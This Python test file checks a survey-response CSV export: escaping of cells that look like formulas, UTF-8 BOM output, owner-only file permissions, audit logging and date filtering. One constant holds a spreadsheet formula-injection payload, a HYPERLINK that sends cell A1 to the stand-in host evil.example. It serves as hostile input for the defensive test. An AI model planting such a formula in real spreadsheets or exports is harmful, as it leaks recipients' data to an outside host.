"""Exporting: the responses as a file that a spreadsheet opens without running what a customer wrote."""

import csv
import stat
from pathlib import Path

import pytest
from embedded import START, Embedded, journey, score

from workers import decision_table
from workers.decision_table.trials.past_files import read_responses
from workers.domain.records import SurveyRequest
from workers.text.spreadsheets import FORMULA_STARTS
from workers.usecases.privacy.response_export import COLUMNS, export_responses

HOSTILE = '=HYPERLINK("https://evil.example?"&A1;"open")\nand more; "quoted", été'


@pytest.fixture
def boucle(tmp_path: Path) -> Embedded:
    """Give an installation with two responses, one with a comment that is a formula."""
    made = Embedded(tmp_path / "home")
    made.take(journey("delivery", "-42", reference="+1042", label="@lamp"))
    made.settle()
    made.parts.customer_actions.answer(made.rows(SurveyRequest)[0].id, 2, HOSTILE, wants_contact=True)
    made.later(minutes=5)
    made.take(score(9, "7", made.clock.at, trigger="deal_won"))
    return made


def read_file(path: Path) -> list[dict[str, str]]:
    """Return the rows of a file."""
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def test_every_response_is_a_row(boucle: Embedded, tmp_path: Path) -> None:
    """Answers and scores from elsewhere are listed, oldest first, with what was decided."""
    path = tmp_path / "r.csv"
    assert export_responses(boucle.store, path, boucle.clock.at, "ana") == 2
    first, second = read_file(path)
    assert tuple(first) == COLUMNS
    assert (first["score"], first["band"], first["trigger"], first["rule"]) == ("2", "detractor", "delivery", "D1")
    assert (first["comment"], first["wants_contact"], first["received_at"]) == ("yes", "yes", START.isoformat())
    assert (second["customer"], second["score"], second["comment"]) == ("7", "9", "no")
    assert (first["name"], second["name"]) == ("Camille Roux", "")


def test_excel_takes_the_file_for_utf8(boucle: Embedded, tmp_path: Path) -> None:
    """The file begins with a byte order mark: without it Excel shows "été" as two signs too many."""
    path = tmp_path / "r.csv"
    export_responses(boucle.store, path, boucle.clock.at, "ana")
    assert path.read_bytes().startswith(b"\xef\xbb\xbfid,")


def test_what_looks_like_a_formula_is_text(boucle: Embedded, tmp_path: Path) -> None:
    """No cell begins with a sign that a spreadsheet takes for a formula; the words themselves are kept."""
    path = tmp_path / "r.csv"
    export_responses(boucle.store, path, boucle.clock.at, "ana")
    rows = read_file(path)
    assert rows[0]["comment_text"] == f"'{HOSTILE}"
    assert (rows[0]["customer"], rows[0]["reference"], rows[0]["label"]) == ("'-42", "'+1042", "'@lamp")
    assert not [cell for row in rows for cell in row.values() if cell.startswith(FORMULA_STARTS)]


def test_the_file_can_be_backtested(boucle: Embedded, tmp_path: Path) -> None:
    """The export is what `boucle rules backtest --responses` reads: the table's inputs, id, customer, received_at."""
    path = tmp_path / "r.csv"
    export_responses(boucle.store, path, boucle.clock.at, "ana")
    table = decision_table.load(boucle.parts.files.data.folder("rules/follow-up"))
    past = read_responses(table, path.read_bytes())
    assert [event.inputs["score"] for event in past] == [2, 9]
    assert past[0].received_at == START


def test_the_file_is_private_whole_and_audited(boucle: Embedded, tmp_path: Path) -> None:
    """Only its owner reads it, a file that was there is replaced at once, and the audit log says who took it."""
    path = tmp_path / "r.csv"
    path.write_text("old")
    export_responses(boucle.store, path, boucle.clock.at, "ana")
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert sorted(file.name for file in tmp_path.iterdir()) == ["home", "r.csv"]
    from workers.store.sign_in.audit_log import list_acts

    with boucle.store.reading() as connection:
        (act,) = list_acts(connection)
    assert (act["by"], act["act"], act["detail"]["rows"]) == ("ana", "export.responses", 2)


def test_since_leaves_older_answers_out(boucle: Embedded, tmp_path: Path) -> None:
    """Only answers from a moment on are written."""
    path = tmp_path / "r.csv"
    assert export_responses(boucle.store, path, boucle.clock.at, "ana", since=boucle.clock.at) == 1
